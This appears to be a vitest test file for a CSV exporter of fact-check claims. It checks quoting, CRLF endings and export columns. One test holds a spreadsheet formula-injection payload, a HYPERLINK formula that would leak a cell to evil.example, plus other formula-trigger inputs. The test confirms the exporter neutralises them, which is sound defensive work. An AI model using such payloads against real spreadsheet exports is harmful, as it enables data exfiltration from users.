import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvRecord, formatCsv, neutraliseCell, toCsvRow } from './csv';
import { collect, pagesOf, sampleClaim, sampleContext } from './sample-claims';

describe('formatCsv', () => {
  const claims = [
    sampleClaim(1),
    sampleClaim(2, {
      statement: 'A statement with "quotes", commas,\nand a line break',
      verdict: null,
      rationale: null,
      sources: [],
      reviewer: null,
      reviewedAt: null,
      figure: null,
    }),
    sampleClaim(3, { statement: '=SUM(A1:A2) and ünïcödé — “typographic” quotes' }),
  ];

  it('writes a header and one row per claim that csv-parse reads back to the same rows', async () => {
    const text = await collect(formatCsv(pagesOf(claims), sampleContext));
    const records: Record<string, string>[] = parse(text, { bom: true, columns: true });
    expect(Object.keys(records[0]!)).toEqual(CSV_COLUMNS.map(([, header]) => header));
    expect(records).toHaveLength(3);
    records.forEach((record, index) => {
      const row = toCsvRow(claims[index]!);
      expect(Object.values(record)).toEqual(Object.values(row).map(neutraliseCell));
    });
  });

  it('ends every line with CRLF, and neutralises cells a spreadsheet would run as formulas', async () => {
    const attack = '=HYPERLINK("http://evil.example/?leak="&A1)';
    const claims = [
      sampleClaim(1, { statement: attack, rationale: '+1+1', figure: { ...sampleClaim(1).figure!, value: '-16500' } }),
      sampleClaim(2, { statement: '@SUM(1)', rationale: '-2+3' }),
      sampleClaim(3, { statement: '\t=1+1', rationale: '\r=1+1' }),
    ];
    const text = await collect(formatCsv(pagesOf(claims), sampleContext));
    expect(text.match(/\r\n/g)).toHaveLength(4); // the header and three rows, none with a line break inside
    expect(text.replace(/\r\n/g, '')).not.toMatch(/(^|[^\r])\n/);
    const records = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(records.map((record) => [record.Statement, record.Rationale])).toEqual([
      [`'${attack}`, "'+1+1"],
      ["'@SUM(1)", "'-2+3"],
      ["'\t=1+1", "'\r=1+1"],
    ]);
    expect(records[0]!['Figure value']).toBe('-16500'); // a plain negative number stays a number
    // The columns a desk asks for: the evidence quotes, the proposal date, the article's address and byline.
    expect(records[0]!['Evidence quotes']).toContain('“over 16,500 containers”');
    expect(records[0]!).toMatchObject({ Proposed: '2026-11-20T10:00:00.000Z', Assignee: '' });
    expect(Object.keys(records[0]!)).toEqual(expect.arrayContaining(['Document address', 'Byline', 'Published']));
  });

  it('says which version the quote is from, and when the claim is orphaned there', () => {
    const claim = sampleClaim(1);
    expect(toCsvRow({ ...claim, annotation: { ...claim.annotation, version: 4 } }).placement).toBe('version 4');
    expect(toCsvRow({ ...claim, annotation: { ...claim.annotation, version: 4, orphaned: true } }).placement).toBe('orphaned in version 4');
  });

  it('names the words the verdict judged, and when they changed since', () => {
    const claim = sampleClaim(1);
    expect(toCsvRow(claim)).toMatchObject({ verdictWords: 'over 16,500 containers of munitions', wordsChanged: '' });
    const changed = { ...claim, verdictWords: { words: 'over 16,500 containers', version: 1, changedAt: '2026-12-01T10:00:00.000Z' } };
    expect(toCsvRow(changed)).toMatchObject({ verdictWords: 'over 16,500 containers', wordsChanged: '2026-12-01T10:00:00.000Z' });
  });

  it('puts the figure, the sources with their stance, the people and the link back in the row', async () => {
    const [record] = parse(await collect(formatCsv(pagesOf(claims.slice(0, 1)), sampleContext)), { bom: true, columns: true }) as Record<
      string,
      string
    >[];
    expect(record).toMatchObject({
      Statement: claims[0]!.statement,
      Quote: 'over 16,500 containers of munitions',
      'Place in the text': 'version 1',
      Kind: 'figure',
      'Figure value': '16501',
      'Figure unit': 'containers',
      Status: 'reviewed',
      Verdict: 'verified',
      Sources: 'supports https://www.politico.eu/article/north-korea-munitions; contradicts https://reliefweb.int/report/x?a=1&b=(2)',
      'Proposed by': 'Ana Checker',
      'Reviewed by': 'ben@example.test',
      Reviewed: '2026-11-21T09:30:00.000Z',
      Link: 'https://margin.example/w/desk/documents/doc1?annotation=ann1',
    });
  });

  it('writes only the header when nothing matches', async () => {
    const text = await collect(formatCsv(pagesOf([]), sampleContext));
    expect(parse(text, { bom: true })).toHaveLength(1);
  });

  it('quotes a cell with a line break in it, a lone LF or CR too (several evidence quotes are one a line)', async () => {
    const claim = sampleClaim(1, { rationale: 'first line\nsecond line', statement: 'a\rb' });
    const text = await collect(formatCsv(pagesOf([claim]), sampleContext));
    expect(text).toContain(',"first line\nsecond line",');
    expect(text).toContain(',"a\rb",');
    expect(text.split('\r\n')).toHaveLength(3); // the header, the row, and nothing after the last CRLF
  });
});

describe('csvRecord', () => {
  it('writes what csv-stringify writes with CRLF records that quote a lone LF or CR', () => {
    const cells = [
      '',
      'plain',
      'a,b',
      'say "hi"',
      '"',
      'one\ntwo',
      'a\rb',
      'end\r',
      'crlf\r\ninside',
      ' spaced ',
      'ünïcödé “x”',
      "'=1+1",
      '\t',
    ];
    for (const cell of cells)
      expect(csvRecord([cell, cell])).toBe(stringify([[cell, cell]], { record_delimiter: 'windows', quote_record_delimiter: true }));
    expect(csvRecord(cells)).toBe(stringify([cells], { record_delimiter: 'windows', quote_record_delimiter: true }));
  });
});
